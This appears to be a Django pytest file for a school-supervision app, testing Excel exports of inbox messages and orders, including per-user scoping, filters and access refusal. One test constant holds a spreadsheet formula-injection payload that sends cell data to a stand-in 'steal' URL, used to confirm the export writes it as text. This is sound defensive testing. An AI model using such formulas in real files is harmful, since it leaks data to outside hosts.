"""The inbox downloads as a workbook of the messages the page lists: Alice gets hers,
Charlie his, with the page's unread filter; a subject typed as a formula stays text."""

from __future__ import annotations

import datetime
import io
import re

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from eduplan.supervision.models import InboxMessage, ReminderKind
from eduplan.supervision.tests.conftest import raise_order

INBOX = "/supervision/inbox/"
HOSTILE = '=HYPERLINK("http://example.org/steal?"&A1,"点击查看")'
AT = datetime.datetime(2016, 9, 6, 1, 30, tzinfo=datetime.UTC)  # 09:30 in Zhengzhou


def _sheet(response):
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return openpyxl.load_workbook(io.BytesIO(response.content)).active


def _rows(response) -> list[tuple]:
    return list(_sheet(response).iter_rows(min_row=3, values_only=True))


def _message(user, subject, *, minutes=0, read=False, order=None) -> InboxMessage:
    at = AT + datetime.timedelta(minutes=minutes)
    return InboxMessage.objects.create(
        user=user,
        order=order,
        kind=ReminderKind.DUE_SOON,
        subject=subject,
        body=f"{subject}：请及时办理",
        created_at=at,
        read_at=at if read else None,
    )


@pytest.fixture
def inbox(city):
    order = raise_order(city.jinshui_one)
    return {
        "older": _message(city.users["alice"], "金水一小督办单即将到期", read=True, order=order),
        "newer": _message(city.users["alice"], "金水一小督办单已逾期", minutes=5, order=order),
        "charlie": _message(city.users["charlie"], "二七一小督办单即将到期"),
    }


def test_alice_downloads_her_messages_as_the_inbox_lists_them(client, city, inbox):
    client.force_login(city.users["alice"])
    rows = _rows(client.get(INBOX, {"export": "messages"}))
    local = timezone.localtime(AT).replace(tzinfo=None)
    assert rows == [
        (
            "金水一小督办单已逾期",
            local + datetime.timedelta(minutes=5),
            "金水一小督办单已逾期：请及时办理",
            "否",
        ),
        ("金水一小督办单即将到期", local, "金水一小督办单即将到期：请及时办理", "是"),
    ]
    page = client.get(INBOX).content.decode()
    listed = re.findall(r'data-message="(\d+)"', page)
    assert listed == [str(inbox["newer"].pk), str(inbox["older"].pk)]
    assert 'href="?export=messages" download' in page


def test_the_download_keeps_the_unread_filter_of_the_page(client, city, inbox):
    client.force_login(city.users["alice"])
    rows = _rows(client.get(INBOX, {"unread": "1", "export": "messages"}))
    assert [r[0] for r in rows] == ["金水一小督办单已逾期"]
    page = client.get(INBOX, {"unread": "1", "page": "1"}).content.decode()
    assert re.findall(r'data-message="(\d+)"', page) == [str(inbox["newer"].pk)]
    assert 'href="?unread=1&amp;export=messages" download' in page


@pytest.mark.parametrize(
    ("who", "subjects"),
    [
        ("charlie", ["二七一小督办单即将到期"]),
        ("bob", []),  # Alice's district reads its schools' orders, not her inbox
        ("sue", []),
    ],
)
def test_each_user_downloads_only_their_own_messages(client, city, inbox, who, subjects):
    client.force_login(city.users[who])
    assert [r[0] for r in _rows(client.get(INBOX, {"export": "messages"}))] == subjects


def test_a_subject_typed_as_a_formula_comes_out_as_text(client, city, inbox):
    InboxMessage.objects.filter(pk=inbox["newer"].pk).update(subject=HOSTILE)
    client.force_login(city.users["alice"])
    sheet = _sheet(client.get(INBOX, {"export": "messages"}))
    cells = [c for row in sheet.iter_rows() for c in row if c.value == HOSTILE]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


def test_the_inbox_download_is_refused_without_a_scope_and_unknown_tables_are_not_found(
    client, city, inbox
):
    client.force_login(city.users["nobody"])
    assert client.get(INBOX, {"export": "messages"}).status_code == 403
    client.force_login(city.users["alice"])
    assert client.get(INBOX, {"export": "orders"}).status_code == 404


def test_a_download_of_ten_messages_makes_no_more_queries_than_of_one(
    client, city, django_assert_max_num_queries
):
    client.force_login(city.users["alice"])
    _message(city.users["alice"], "第1条")
    with CaptureQueriesContext(connection) as one:
        assert len(_rows(client.get(INBOX, {"export": "messages"}))) == 1
    for i in range(2, 11):
        _message(city.users["alice"], f"第{i}条", minutes=i)
    with django_assert_max_num_queries(len(one.captured_queries)):
        assert len(_rows(client.get(INBOX, {"export": "messages"}))) == 10


MINE = "/supervision/"


def test_bob_downloads_his_districts_open_orders_and_dora_only_hers(client, city):
    jinshui = raise_order(city.jinshui_one)
    raise_order(city.erqi_one)
    client.force_login(city.users["bob"])
    rows = _rows(client.get(MINE, {"export": "orders"}))
    assert [r[0] for r in rows] == [jinshui.title]
    assert rows[0][1] == city.jinshui_one.name
    client.force_login(city.users["dora"])
    assert [r[1] for r in _rows(client.get(MINE, {"export": "orders"}))] == [city.erqi_one.name]


def test_the_closed_filter_carries_into_the_my_orders_download(client, city):
    from eduplan.supervision.services import order_close, order_feedback, order_sign

    open_order = raise_order(city.jinshui_one)
    closed = raise_order(city.jinshui_one)
    order_sign(user=city.users["alice"], order=closed)
    order_feedback(user=city.users["alice"], order=closed, response="已完成整改")
    order_close(user=city.users["sue"], order=closed)
    client.force_login(city.users["bob"])
    assert [r[0] for r in _rows(client.get(MINE, {"export": "orders"}))] == [open_order.title]
    every = _rows(client.get(MINE, {"export": "orders", "closed": "1"}))
    assert sorted(r[0] for r in every) == sorted([open_order.title, closed.title])
